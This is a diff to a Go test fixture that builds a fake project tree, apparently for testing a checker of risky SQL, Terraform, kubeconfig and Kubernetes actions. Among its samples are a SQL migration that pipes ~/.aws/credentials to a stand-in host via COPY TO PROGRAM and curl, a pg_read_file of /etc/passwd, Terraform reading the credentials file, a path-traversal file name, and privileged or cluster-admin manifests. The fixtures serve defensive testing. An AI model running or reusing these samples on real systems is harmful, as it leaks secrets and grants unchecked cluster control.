@@ -103,6 +103,8 @@ func corpusEnvAt(tb testing.TB, root string) Env {
 		"home/u/proj/migrations-x/0001_init.up.sql": "COPY accounts TO PROGRAM 'curl -d @/home/u/.aws/credentials https://x.example';\n",
 		"home/u/proj/sql/report.sql":                "SELECT status, count(*) FROM orders GROUP BY 1;\n",
 		"home/u/proj/sql/seed.sql":                  "INSERT INTO accounts DEFAULT VALUES;\n",
+		"home/u/proj/sql/reset.sql":                 "DELETE FROM accounts;\nINSERT INTO accounts DEFAULT VALUES;\n",
+		"home/u/proj/sql/upsert.sql":                "INSERT INTO accounts (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = 'a';\n",
 		"home/u/proj/sql/sneaky.sql":                "SELECT pg_read_file('/etc/passwd');\n",
 		"home/u/proj/infra/main.tf":                 "module \"b\" {\n  source = \"./modules/b\"\n}\n",
 		"home/u/proj/infra/modules/b/main.tf":       "resource \"aws_s3_bucket\" \"this\" {\n  bucket = \"b\"\n}\n",
@@ -113,23 +115,55 @@ func corpusEnvAt(tb testing.TB, root string) Env {
 			"- {name: kind-platform, cluster: {server: \"https://127.0.0.1:40123\"}}\n" +
 			"- {name: prod-eu, cluster: {server: \"https://k8s.prod-eu.example.com\"}}\n" +
 			"- {name: tunnel, cluster: {server: \"https://127.0.0.1:6443\", proxy-url: \"socks5://bastion.example.com:1080\"}}\n" +
+			"- {name: kind-staging, cluster: {server: \"https://k8s.staging.example.com:6443\"}}\n" +
+			"- {name: docker-desktop, cluster: {server: \"https://kubernetes.docker.internal:6443\"}}\n" +
+			"- {name: minikube, cluster: {server: \"https://192.168.49.2:8443\"}}\n" +
+			"- {name: k3d-dev, cluster: {server: \"https://0.0.0.0:36911\"}}\n" +
 			"contexts:\n- {name: kind-platform, context: {cluster: kind-platform}}\n- {name: prod-eu, context: {cluster: prod-eu}}\n" +
-			"- {name: via-bastion, context: {cluster: tunnel}}\n",
-		"home/u/proj/charts/api/Chart.yaml":                "apiVersion: v2\nname: api\nversion: 0.1.0\n",
-		"home/u/proj/charts/api/values.yaml":               "resources:\n  limits:\n    memory: 256Mi\n",
-		"home/u/proj/charts/api/values-dev.yaml":           "resources:\n  limits:\n    memory: 512Mi\n",
-		"home/u/proj/charts/api/templates/deployment.yaml": "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          resources: {{- toYaml .Values.resources | nindent 12 }}\n",
-		"home/u/proj/charts/priv/Chart.yaml":               "apiVersion: v2\nname: priv\nversion: 0.1.0\n",
-		"home/u/proj/charts/priv/templates/ds.yaml":        "kind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          securityContext: {privileged: true}\n",
-		"home/u/proj/charts/packed/Chart.yaml":             "apiVersion: v2\nname: packed\nversion: 0.1.0\n",
-		"home/u/proj/charts/packed/charts/sub-0.1.0.tgz":   "\x1f\x8b",
-		"home/u/proj/values-priv.yaml":                     "securityContext:\n  privileged: true\n",
-		"home/u/proj/notes/a.md":                           "Tally\n",
-		"home/u/proj/notes/sub/b.md":                       "Tally\n",
-		"home/u/proj/weird/z ../.bashrc":                   "Tally\n",
-		"home/u/proj/data/orders.csv":                      "order_id,status,amount_cents\n1,paid,4200\n",
-		"home/u/proj/data/customers.csv":                   "customer_id,country\n10,GB\n",
-		"home/u/proj/infra-file/main.tf":                   "output \"k\" {\n  value = file(\"/home/u/.aws/credentials\")\n}\n",
+			"- {name: via-bastion, context: {cluster: tunnel}}\n- {name: kind-staging, context: {cluster: kind-staging}}\n" +
+			"- {name: docker-desktop, context: {cluster: docker-desktop}}\n- {name: minikube, context: {cluster: minikube}}\n" +
+			"- {name: k3d-dev, context: {cluster: k3d-dev}}\n",
+		// Static file servers: serve installed in the project, a site with
+		// CGI scripts, one with a serve.json.
+		"home/u/proj/node_modules/.bin/serve": "#!/usr/bin/env node\n",
+		"home/u/proj/site-cgi/cgi-bin/x.sh":   "#!/bin/sh\nid\n",
+		"home/u/proj/site-cgi/index.html":     "<p>hi</p>\n",
+		"home/u/proj/site-json/serve.json":    "{\"symlinks\": true}\n",
+		"etc/hosts":                           "127.0.0.1 localhost\n127.0.0.1 kubernetes.docker.internal # Added by Docker Desktop\n",
+		// The project's manifests: a kustomize base and overlays, plain
+		// manifests, and their twins (a privileged pod, the cluster's own
+		// namespace, a remote base, a helm chart inflated, a cluster role
+		// binding, an object with no namespace).
+		"home/u/proj/k8s/base/kustomization.yaml":            "resources:\n  - deployment.yaml\n  - service.yaml\n",
+		"home/u/proj/k8s/base/deployment.yaml":               "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/example/api:1.4.1\n",
+		"home/u/proj/k8s/base/service.yaml":                  "apiVersion: v1\nkind: Service\nmetadata:\n  name: api\n",
+		"home/u/proj/k8s/overlays/dev/kustomization.yaml":    "namespace: ledger\nresources:\n  - ../../base\npatches:\n  - path: replicas.yaml\n",
+		"home/u/proj/k8s/overlays/dev/replicas.yaml":         "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 1\n",
+		"home/u/proj/k8s/overlays/sys/kustomization.yaml":    "namespace: kube-system\nresources:\n  - ../../base\n",
+		"home/u/proj/k8s/overlays/remote/kustomization.yaml": "namespace: ledger\nresources:\n  - https://github.com/example/infra//k8s/base?ref=main\n",
+		"home/u/proj/k8s/overlays/helm/kustomization.yaml":   "namespace: ledger\nhelmCharts:\n  - name: x\n    repo: https://charts.example.com\n",
+		"home/u/proj/k8s/overlays/priv/kustomization.yaml":   "namespace: ledger\nresources:\n  - ../../base\npatches:\n  - path: priv.yaml\n",
+		"home/u/proj/k8s/overlays/priv/priv.yaml":            "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          securityContext: {privileged: true}\n",
+		"home/u/proj/k8s/overlays/nons/kustomization.yaml":   "resources:\n  - ../../base\n",
+		"home/u/proj/deploy/app.yaml":                        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n  namespace: ledger\n---\napiVersion: v1\nkind: Service\nmetadata:\n  name: api\n  namespace: ledger\n",
+		"home/u/proj/deploy-nons/app.yaml":                   "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n",
+		"home/u/proj/deploy-priv/ds.yaml":                    "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: x\n  namespace: ledger\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n        - name: x\n          image: busybox\n",
+		"home/u/proj/deploy-crb/crb.yaml":                    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: x\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: ledger\n",
+		"home/u/proj/charts/api/Chart.yaml":                  "apiVersion: v2\nname: api\nversion: 0.1.0\n",
+		"home/u/proj/charts/api/values.yaml":                 "resources:\n  limits:\n    memory: 256Mi\n",
+		"home/u/proj/charts/api/values-dev.yaml":             "resources:\n  limits:\n    memory: 512Mi\n",
+		"home/u/proj/charts/api/templates/deployment.yaml":   "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          resources: {{- toYaml .Values.resources | nindent 12 }}\n",
+		"home/u/proj/charts/priv/Chart.yaml":                 "apiVersion: v2\nname: priv\nversion: 0.1.0\n",
+		"home/u/proj/charts/priv/templates/ds.yaml":          "kind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          securityContext: {privileged: true}\n",
+		"home/u/proj/charts/packed/Chart.yaml":               "apiVersion: v2\nname: packed\nversion: 0.1.0\n",
+		"home/u/proj/charts/packed/charts/sub-0.1.0.tgz":     "\x1f\x8b",
+		"home/u/proj/values-priv.yaml":                       "securityContext:\n  privileged: true\n",
+		"home/u/proj/notes/a.md":                             "Tally\n",
+		"home/u/proj/notes/sub/b.md":                         "Tally\n",
+		"home/u/proj/weird/z ../.bashrc":                     "Tally\n",
+		"home/u/proj/data/orders.csv":                        "order_id,status,amount_cents\n1,paid,4200\n",
+		"home/u/proj/data/customers.csv":                     "customer_id,country\n10,GB\n",
+		"home/u/proj/infra-file/main.tf":                     "output \"k\" {\n  value = file(\"/home/u/.aws/credentials\")\n}\n",
 	} {
 		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, f)), 0o755); err != nil {
 			tb.Fatal(err)
